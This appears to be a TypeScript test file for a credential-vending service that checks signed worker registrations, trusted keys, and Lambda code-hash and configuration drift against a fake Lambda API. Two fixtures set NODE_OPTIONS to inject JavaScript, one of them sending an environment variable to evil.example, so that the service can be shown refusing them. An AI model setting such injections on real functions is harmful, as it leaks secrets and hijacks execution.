// Trust configuration (CREDVEND_TRUSTED_KEYS, signed registrations in CREDVEND_WORKERS) and the
// Lambda code hash and configuration, with a loopback stand-in of Lambda's REST API.
import { afterEach, describe, expect, it } from "vitest";
import { ConfigError } from "../../plugin-workers/sdk/env.js";
import { loadFunctionConfig, parseWorkers } from "../../functions/adapters/config/function-config.js";
import { LambdaCodeHash } from "../../functions/adapters/plugins/lambda-code-hash.js";
import { LambdaConfigurationApi } from "../../functions/adapters/plugins/lambda-configuration-api.js";
import { type FakeLambdaApi, type FakeLambdaReply, startFakeLambdaApi } from "../support/fake-lambda-api.js";
import { publicKeyConfig } from "../../cli/publisher-key-files.js";
import { VerifiedPluginDirectory } from "../../functions/core/plugin-trust/verified-plugin-directory.js";
import { parseTrustedKeys } from "../../functions/adapters/config/worker-trust-config.js";
import type { Notification } from "../../functions/core/ports/notifier.js";
import { inMemoryWorkerClient } from "../support/in-memory-worker.js";
import { demoPlugin } from "./plugin-sdk-fixture.js";
import { DEMO_CODE, generateKeyPair, sha256Base64, signDemo, trustOf } from "./plugin-trust-fixture.js";

const base = { name: "demo", url: "https://abc.lambda-url.eu-west-1.on.aws/", providers: ["demo"] };

describe("trust configuration", () => {
  it("reads signed registrations and trusted keys", async () => {
    const key = await generateKeyPair();
    const signed = await signDemo(key);
    const config = loadFunctionConfig({
      CREDVEND_LEDGER_TABLE: "t",
      CREDVEND_POLICY: "version: 1",
      CREDVEND_WORKERS: JSON.stringify([{ ...base, ...signed, functionName: "credvend-demo" }]),
      CREDVEND_TRUSTED_KEYS: JSON.stringify([publicKeyConfig(key)]),
    });
    expect(config.workers[0]).toMatchObject({ name: "demo", functionName: "credvend-demo", signed: { signature: signed.signature } });
    expect(config.trustedKeys.keyIds()).toEqual([key.keyId]);
  });

  const bad: { name: string; entry: Record<string, unknown>; message: RegExp }[] = [
    { name: "a manifest without signature", entry: { manifest: {} }, message: /"manifest" and "signature" come together/ },
    {
      name: "a signed worker without its code",
      entry: { manifest: {}, signature: "x" },
      message: /needs "functionName" \(AWS\) or "codeZip"/,
    },
    {
      name: "a manifest that is not an object",
      entry: { manifest: "x", signature: "x", codeZip: "z" },
      message: /manifest: must be the JSON object/,
    },
    { name: "allowUnsigned that is not a boolean", entry: { allowUnsigned: "yes" }, message: /allowUnsigned: must be true or false/ },
  ];
  for (const { name, entry, message } of bad) {
    it(`refuses ${name}, naming the field`, () => {
      expect(() => parseWorkers(JSON.stringify([{ ...base, ...entry }]))).toThrow(ConfigError);
      expect(() => parseWorkers(JSON.stringify([{ ...base, ...entry }]))).toThrow(message);
    });
  }

  it("refuses a trusted key whose id is not its hash", async () => {
    const key = await generateKeyPair();
    const other = await generateKeyPair();
    const text = JSON.stringify([{ keyId: other.keyId, publicKey: publicKeyConfig(key).publicKey }]);
    expect(() => parseTrustedKeys(text)).toThrow(/CREDVEND_TRUSTED_KEYS\[0\]\.keyId/);
    expect(() => parseTrustedKeys("{")).toThrow(/not valid JSON/);
  });
});

/** The demo worker as GetFunctionConfiguration answers for it, deployed as signed. */
const DEPLOYED = {
  CodeSha256: sha256Base64(DEMO_CODE),
  Handler: "index.handler",
  Runtime: "nodejs24.x",
  Environment: { Variables: { DEMO_TABLE: "credvend-demo-tokens" } },
};
const FUNCTION_ARN = "arn:aws:lambda:eu-west-1:123456789012:function:credvend-demo";

let fake: FakeLambdaApi | undefined;
afterEach(async () => {
  await fake?.close();
  fake = undefined;
});

/** Lambda's API answering GetFunctionConfiguration with `answer` (the last reply repeats). */
async function lambdaAnswering(...answers: object[]): Promise<{ lambda: LambdaConfigurationApi; fake: FakeLambdaApi }> {
  fake = await startFakeLambdaApi(...answers.map((body): FakeLambdaReply => ({ body })));
  const credentials = async () => ({ accessKeyId: "a", secretAccessKey: "b" });
  return { lambda: new LambdaConfigurationApi({ region: "eu-west-1", endpoint: fake.url, credentials }), fake };
}

describe("Lambda CodeSha256 and configuration", () => {
  it("reads code hash, layers, handler, runtime and variable names from one GetFunctionConfiguration, never the values", async () => {
    const { lambda, fake } = await lambdaAnswering({
      ...DEPLOYED,
      Layers: [{ Arn: "arn:aws:lambda:eu-west-1:123456789012:layer:wrapper:3", CodeSize: 10 }],
      Environment: { Variables: { NODE_OPTIONS: "--import=data:text/javascript,evil()", DEMO_TABLE: "t" } },
    });
    const configuration = await new LambdaCodeHash(lambda, FUNCTION_ARN).configuration();
    expect(configuration).toEqual({
      codeSha256: sha256Base64(DEMO_CODE),
      lambda: {
        handler: "index.handler",
        runtime: "nodejs24.x",
        layers: ["arn:aws:lambda:eu-west-1:123456789012:layer:wrapper:3"],
        environmentNames: ["DEMO_TABLE", "NODE_OPTIONS"],
      },
    });
    expect(JSON.stringify(configuration)).not.toContain("evil");
    expect(fake.requests).toHaveLength(1);
  });

  it("reports variables Lambda could not show, and a function without handler or runtime (a container image) as empty", async () => {
    const { lambda } = await lambdaAnswering({
      CodeSha256: DEPLOYED.CodeSha256,
      Environment: { Error: { ErrorCode: "KMSAccessDeniedException", Message: "no" } },
    });
    expect((await new LambdaCodeHash(lambda, FUNCTION_ARN).configuration()).lambda).toEqual({
      handler: "",
      runtime: "",
      layers: [],
      environmentNames: [],
      environmentError: "KMSAccessDeniedException",
    });
  });

  it("verifies against GetFunctionConfiguration and notices a redeploy", async () => {
    const redeployed = { ...DEPLOYED, CodeSha256: sha256Base64(new TextEncoder().encode("new code")) };
    const { lambda, fake } = await lambdaAnswering(DEPLOYED, redeployed);
    const key = await generateKeyPair();
    const alerts: Notification[] = [];
    let now = Date.now();
    const directory = new VerifiedPluginDirectory({
      workers: [
        {
          registration: { name: "demo", providers: ["demo"], signed: await signDemo(key) },
          client: inMemoryWorkerClient(demoPlugin()),
          code: new LambdaCodeHash(lambda, FUNCTION_ARN),
        },
      ],
      trust: trustOf(key),
      notifier: { notify: async (n) => void alerts.push(n) },
      audit: async () => undefined,
      clock: { now: () => new Date(now) },
      recheckIntervalMs: 1000,
    });
    expect(await directory.forProvider("demo")).toBeDefined();
    expect(fake.requests.map((r) => decodeURIComponent(r.rawPath))).toEqual([
      "/2015-03-31/functions/arn:aws:lambda:eu-west-1:123456789012:function:credvend-demo/configuration",
    ]);

    now += 1000;
    await expect(directory.forProvider("demo")).rejects.toMatchObject({ code: "worker_refused" });
    expect(alerts.map((a) => a.details.reason)).toEqual(["code_mismatch"]);
  });

  it("NODE_OPTIONS added by UpdateFunctionConfiguration (same code) is refused at the next check", async () => {
    const { lambda } = await lambdaAnswering(DEPLOYED, {
      ...DEPLOYED,
      Environment: {
        Variables: { DEMO_TABLE: "t", NODE_OPTIONS: "--import=data:text/javascript,fetch('https://evil.example/'+process.env.X)" },
      },
    });
    const key = await generateKeyPair();
    const alerts: Notification[] = [];
    let now = Date.now();
    const directory = new VerifiedPluginDirectory({
      workers: [
        {
          registration: { name: "demo", providers: ["demo"], signed: await signDemo(key) },
          client: inMemoryWorkerClient(demoPlugin()),
          code: new LambdaCodeHash(lambda, FUNCTION_ARN),
        },
      ],
      trust: trustOf(key),
      notifier: { notify: async (n) => void alerts.push(n) },
      audit: async () => undefined,
      clock: { now: () => new Date(now) },
      recheckIntervalMs: 1000,
    });
    expect(await directory.forProvider("demo")).toBeDefined();
    now += 1000;
    await expect(directory.forProvider("demo")).rejects.toMatchObject({ code: "worker_refused" });
    expect(alerts.map((a) => [a.details.reason, a.details.detail])).toEqual([
      ["configuration_mismatch", "environment variable NODE_OPTIONS is set, which no worker may have"],
    ]);
  });
});
